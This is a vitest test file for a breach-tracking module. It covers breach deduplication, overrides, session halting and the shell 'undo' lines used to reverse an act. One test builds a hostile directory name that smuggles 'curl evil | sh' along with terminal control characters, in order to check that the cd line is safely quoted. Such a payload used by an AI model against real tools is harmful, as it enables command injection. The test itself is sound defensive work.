import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { describeBreach, openBreaches, overrideReason, undoLines } from '../../protocol/breach.ts';
import { feedEvent } from '../../protocol/engine-event.ts';
import { actId, launchId } from '../../protocol/ids.ts';
import { showUnseen } from '../../protocol/preset.ts';
import { aBreach, breachFound, halted, overridden } from '../support/breach-builders.ts';
import { created, viewAfter } from '../support/protocol-builders.ts';
import { accepted, ready, started } from '../support/transcript-events.ts';

const STAGED = {
  type: 'launch/staged',
  launchId: launchId.parse('lau_1'),
  stage: 'spawned',
  process: null,
} as const;
const BEGUN = [created(), accepted(), STAGED, ready(), started()] as const;

describe('a breach in the view', () => {
  it('stands once, however often it is told', () => {
    const view = viewAfter(...BEGUN, breachFound(), breachFound());
    expect(view.breaches).toHaveLength(1);
    expect(view.breaches[0]).toMatchObject({ actId: 'act_1', override: null });
  });

  it('is open until somebody answers for it, whose first word stands', () => {
    const view = viewAfter(...BEGUN, breachFound(), overridden('first'), overridden('second'));
    expect(openBreaches(view.breaches)).toEqual([]);
    expect(view.breaches[0]?.override).toMatchObject({ reason: 'first', channel: 'cli' });
  });

  it('is answered for alone: another one stays open', () => {
    const other = breachFound({ actId: actId.parse('act_2') });
    const view = viewAfter(...BEGUN, breachFound(), other, overridden());
    expect(openBreaches(view.breaches).map((each) => each.actId)).toEqual(['act_2']);
  });

  it('halts a session, which rests when that is lifted', () => {
    const stopped = viewAfter(...BEGUN, breachFound(), halted);
    expect(stopped).toMatchObject({ state: 'halted', reason: halted.message });
    const lifted = viewAfter(...BEGUN, breachFound(), halted, { type: 'session/resumed' });
    expect(lifted).toMatchObject({ state: 'parked', reason: null });
  });

  it('lifts nothing of a session that is not halted', () => {
    const view = viewAfter(...BEGUN, { type: 'session/resumed' });
    expect(view.state).toBe('working');
  });
});

describe('the words of a breach', () => {
  it('say what moved, or by which command where nothing was seen', () => {
    expect(describeBreach(aBreach())).toBe('merge, main on origin: 111111111 → 222222222');
    expect(describeBreach(aBreach({ move: null, command: 'gh pr merge 4' }))).toBe(
      'merge, gh pr merge 4',
    );
  });

  it.each([
    ['', false],
    ['  x ', false],
    ['it was me', true],
    ['a'.repeat(1_001), false],
  ] as const)('take %j for a reason: %s', (text, usable) => {
    expect(overrideReason.safeParse(text).success).toBe(usable);
  });

  it('bound what one act may bring along', () => {
    const many = { ...aBreach().undo, commands: Array.from({ length: 9 }, () => 'true') };
    expect(feedEvent.safeParse(breachFound()).success).toBe(true);
    expect(feedEvent.safeParse(breachFound({ undo: many })).success).toBe(false);
  });
});

describe('the lines that undo an act', () => {
  const undo = (directory: string | null, commands = ['git fetch', 'git push']) =>
    undoLines({ directory, commands, note: '' });

  it('go where they belong first, and nowhere where there are none or anywhere will do', () => {
    expect(undo('/srv/a b')).toEqual(["cd -- '/srv/a b'", 'git fetch', 'git push']);
    expect(undo(null)).toEqual(['git fetch', 'git push']);
    expect(undo('/srv', [])).toEqual([]);
  });

  it('are one word and one line of a directory, whatever its name is', () => {
    const hostile = "/srv/\n'; curl evil | sh; '\u001b[201~\r\u202e";
    const [cd = ''] = undo(hostile);
    expect(cd).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
    const script = `cd() { printf '%s\\0' "$@"; }\n${cd}`;
    expect(execFileSync('sh', ['-c', script], { encoding: 'utf8' }).split('\0')).toEqual([
      '--',
      showUnseen(hostile),
      '',
    ]);
  });
});
